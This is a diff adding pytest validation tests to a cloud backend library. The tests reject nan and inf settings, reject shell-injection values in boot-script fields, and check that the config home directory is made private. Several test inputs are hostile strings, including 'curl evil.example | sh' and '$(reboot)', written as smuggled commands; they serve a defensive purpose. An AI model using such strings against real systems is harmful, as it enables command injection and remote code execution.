@@ -39,10 +39,40 @@ from joblib_cloud.errors import (
     ({"provider": "local", "workers_per_host": 0}, "workers_per_host="),
     ({"provider": "local", "heartbeat_timeout": -1}, "heartbeat_timeout="),
     ({"provider": "local", "cache_size": "lots"}, "cache_size="),
+    # nan compares false with everything: an idle_timeout=nan would never stop a machine.
+    ({"provider": "aws", "idle_timeout": float("nan")}, "idle_timeout="),
+    ({"provider": "aws", "budget": "nan"}, "budget="),
+    ({"provider": "aws", "max_lifetime": "inf"}, "max_lifetime="),
+    ({"provider": "local", "cache_size": float("inf")}, "cache_size="),
+    # Both reach the boot script.
+    ({"provider": "aws", "user": "ec2-user; curl evil.example | sh"}, "user="),
+    ({"provider": "aws", "user": "$(reboot)"}, "user="),
+    ({"provider": "aws", "image": "python:3.11\"; reboot; \""}, "image="),
+    ({"provider": "aws", "image": "python:3.11 $(id)"}, "image="),
 ])
 def test_bad_setting_is_a_value_error_naming_it(settings, named):
     with pytest.raises(ValueError, match=named):
         CloudBackend(**settings)
+
+
+def test_non_finite_numbers_say_so(monkeypatch):
+    monkeypatch.setenv("JOBLIB_CLOUD_IDLE_TIMEOUT", "nan")
+    with pytest.raises(ValueError, match="JOBLIB_CLOUD_IDLE_TIMEOUT: expected a finite number"):
+        resolve_config(provider="aws")
+
+
+def test_valid_users_and_images_are_kept():
+    config = resolve_config(provider="aws", user="ec2-user", image="ghcr.io/me/model:1.2")
+    assert (config.user, config.image) == ("ec2-user", "ghcr.io/me/model:1.2")
+
+
+def test_a_home_directory_opened_to_others_is_made_private_again(monkeypatch, tmp_path):
+    home = tmp_path / "state"
+    home.mkdir(mode=0o755)
+    home.chmod(0o755)
+    monkeypatch.setenv("JOBLIB_CLOUD_HOME", str(home))
+    resolve_config(provider="local")  # reads the config file there
+    assert stat.S_IMODE(home.stat().st_mode) == 0o700
 
 
 def test_unknown_instance_alias_lists_valid_ones():
